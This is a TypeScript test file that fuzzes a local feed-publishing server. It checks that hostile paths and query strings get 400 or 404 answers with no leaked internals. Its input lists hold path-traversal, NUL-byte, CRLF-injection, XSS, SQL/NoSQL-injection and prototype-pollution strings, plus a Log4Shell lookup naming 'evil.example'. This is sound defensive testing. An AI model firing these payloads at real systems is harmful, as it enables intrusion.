import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { setLogSink } from '../../functions/adapters/logger';
import type { LocalStack } from '../../infra/local/local-stack';
import { publishSampleContent, startTestStack } from '../support/local-stack';
import { type RawResponse, rawRequest } from '../support/raw-http';

let stack: LocalStack;
let port: number;
const loggedErrors: string[] = [];

beforeAll(async () => {
  stack = await startTestStack();
  await publishSampleContent(stack);
  port = Number(new URL(stack.url).port);
  setLogSink((level, message, fields) => {
    if (level === 'error') loggedErrors.push(`${message} ${JSON.stringify(fields)}`);
  });
});

afterAll(async () => {
  setLogSink(() => {});
  await stack?.stop();
});

/** Names a hostile client puts where a category, tag, code or cursor goes. */
const NAMES = [
  '..',
  '../..',
  '%2E%2E',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f',
  '....//',
  'chengduribao%2F..%2F..',
  '%00',
  'chengduribao%00',
  '%00.rss',
  'a%00b',
  '%C3%28',
  '%C3',
  '%FF',
  '%ED%A0%80',
  '%F4%90%80%80',
  '%C0%AE%C0%AE',
  '%',
  '%%',
  '%ZZ',
  '%E6%88%90%',
  '%u0041',
  'x'.repeat(201),
  '成'.repeat(300),
  encodeURIComponent('成'.repeat(300)),
  'x'.repeat(4096),
  '%41'.repeat(2000),
  '%20',
  '%0d%0aX-Injected:%201',
  '<script>alert(1)</script>',
  '%3Cscript%3E',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell string, literally, is the hostile input
  '${jndi:ldap://evil.example/a}',
  "' OR '1'='1",
  '{"$ne":null}',
  '__proto__',
  'constructor',
  'toString',
];

const QUERIES = [
  'before=..',
  'before=%00',
  'before=%C3%28',
  'before=%',
  'before=%ZZ',
  `before=${'A'.repeat(8192)}`,
  'before=__proto__',
  'before=2022-01-12T00:00:00Z%00',
  'before=&before=x',
  'before',
  '%00=%00',
  '%=%',
  '__proto__=1',
  'constructor=1',
  `${'a=1&'.repeat(2000)}before=x`,
  'infoCode=%C3%28',
  'infoCode=%00',
  `infoCode=${'N'.repeat(5000)}`,
  'infoCode=..%2F..',
];

/** Signs that a response leaks how the server is built. */
const INTERNAL_DETAIL =
  /\bat [\w.<>]+ \(|node:internal|node_modules|\.ts:\d+|Error:|ECONN|dynamo|s3rver|TypeError|stack|undefined|NaN|\[object Object\]/i;

function problemsWith(target: string, response: RawResponse): string[] {
  const problems: string[] = [];
  const where = JSON.stringify(target.slice(0, 100));
  if (response.status >= 500) problems.push(`${where}: answered ${response.status}`);
  if (response.status === 200 || response.status === 301) return problems;
  if (![400, 404, 410, 431].includes(response.status)) problems.push(`${where}: answered ${response.status}`);
  if (Buffer.byteLength(response.body) > 8192)
    problems.push(`${where}: body of ${Buffer.byteLength(response.body)} bytes`);
  if (INTERNAL_DETAIL.test(response.body))
    problems.push(`${where}: body leaks ${INTERNAL_DETAIL.exec(response.body)![0]}`);
  if (response.headers.some(([name]) => name === 'x-injected')) problems.push(`${where}: injected header`);
  if (/<script>alert/i.test(response.body)) problems.push(`${where}: reflects markup`);
  return problems;
}

function targets(): string[] {
  const paths = NAMES.flatMap((name) => [
    `/category/${name}.rss`,
    `/category/${name}.atom`,
    `/category/${name}.json`,
    `/category/${name}.html`,
    `/tag/${name}.rss`,
    `/tag/${name}.html`,
    `/s/${name}`,
    `/${name}`,
    `/chengduribao/2022/01/12/${name}.html`,
    `/feed.${name}`,
  ]);
  const withQueries = [
    '/feed.rss',
    '/feed.atom',
    '/feed.json',
    '/',
    '/category/chengduribao.html',
    '/category/chengduribao.rss',
    '/tag/%E6%88%90%E9%83%BD%E6%97%A5%E6%8A%A5%E6%96%B0%E9%97%BB.json',
    '/html_News/NewsShare.html',
    '/feeds.opml',
  ].flatMap((path) => QUERIES.map((query) => `${path}?${query}`));
  return [...paths, ...withQueries];
}

describe('hostile path parameters and query strings', () => {
  it('are answered 400 or 404 with a short body and no internal detail, never 500', { timeout: 90_000 }, async () => {
    const all = targets();
    expect(all.length).toBeGreaterThan(500);
    const problems: string[] = [];
    const statuses = new Map<number, number>();
    for (const target of all) {
      const response = await rawRequest(port, all.indexOf(target) % 4 === 3 ? 'HEAD' : 'GET', target, [
        ['Host', `localhost:${port}`],
      ]);
      statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
      problems.push(...problemsWith(target, response));
    }
    expect(problems).toEqual([]);
    expect(loggedErrors).toEqual([]);
    expect(statuses.get(404) ?? 0).toBeGreaterThan(200);
    expect(statuses.get(400) ?? 0).toBeGreaterThan(10);
  });

  it('answers invalid UTF-8, lone surrogates and NUL in a name with 400 or 404', async () => {
    for (const target of [
      '/category/%C3%28.rss',
      '/tag/%ED%A0%80.atom',
      '/category/%00.json',
      '/tag/a%00b.html',
      '/s/%C3%28',
    ]) {
      const response = await rawRequest(port, 'GET', target, [['Host', `localhost:${port}`]]);
      expect([400, 404], target).toContain(response.status);
    }
  });

  it('answers an over-long category name with 404', async () => {
    const response = await rawRequest(port, 'GET', `/category/${encodeURIComponent('成'.repeat(300))}.rss`, [
      ['Host', `localhost:${port}`],
    ]);
    expect(response.status).toBe(404);
    expect(response.body.length).toBeLessThan(8192);
  });
});

describe('huge requests', () => {
  it('are refused by the HTTP server with 431 before any handler runs, and the site keeps serving', async () => {
    const huge: Array<[string, string]> = [
      ['Host', `localhost:${port}`],
      ['X-Padding', 'a'.repeat(64 * 1024)],
    ];
    const manyHeaders: Array<[string, string]> = [
      ['Host', `localhost:${port}`],
      ...Array.from({ length: 2000 }, (_, i): [string, string] => [`X-H${i}`, 'v'.repeat(20)]),
    ];
    let answered431 = 0;
    for (const [label, headers, target] of [
      ['a 64 KB header', huge, '/feed.rss'],
      ['2000 headers', manyHeaders, '/feed.rss'],
      [
        'a 64 KB request target',
        [['Host', `localhost:${port}`]] as Array<[string, string]>,
        `/category/${'a'.repeat(64 * 1024)}.rss`,
      ],
    ] as const) {
      const response = await rawRequest(port, 'GET', target, [...headers]).catch((error: Error) => error);
      // Node answers 431 and closes; on a slow reader the reset may arrive before the answer.
      if (response instanceof Error) expect(response.message, label).toMatch(/ECONNRESET|EPIPE/);
      else {
        expect(response.status, label).toBe(431);
        answered431++;
        expect(INTERNAL_DETAIL.test(response.body), label).toBe(false);
      }
    }
    expect(answered431).toBeGreaterThan(0);
    expect((await rawRequest(port, 'GET', '/feed.rss', [['Host', `localhost:${port}`]])).status).toBe(200);
    expect(loggedErrors).toEqual([]);
  });
});
